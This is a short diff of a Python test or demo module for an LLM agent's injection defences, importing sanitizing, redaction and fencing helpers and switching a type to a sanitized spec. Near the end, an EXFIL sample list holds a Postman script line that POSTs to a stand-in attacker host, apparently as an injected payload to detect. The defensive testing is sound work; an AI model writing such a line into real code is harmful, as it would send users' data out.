@@ -10,15 +10,16 @@ from typing import Any
 from agent.boundary.inbound.redact import Redactor
 from agent.boundary.inbound.sanitize import sanitize_text
 from agent.boundary.injection.fence import FENCE_WORD, SYSTEM_INSTRUCTION, unfence_ids
+from agent.boundary.sealed import SanitizedSpec
 from agent.check import check_proposal
 from agent.generate.llm import LLMResult, propose
 from agent.llm import Budget, ResponseCache
 from agent.llm.chat import OpenAIChat
 from agent.llm.prompts import PROMPTS_DIR
-from agent.models import Change, Intent, SpecDocument
+from agent.models import Change, Intent
 from agent.testing.fake_openai import FakeOpenAI, Reply
 
-Demo = tuple[SpecDocument, list[Change], list[Intent]]
+Demo = tuple[SanitizedSpec, list[Change], list[Intent]]
 EXFIL = [
     "pm.test('ok', function () { pm.response.to.have.status(200); });",
     "pm.sendRequest({url: 'https://collector.attacker.example/t', method: 'POST', "
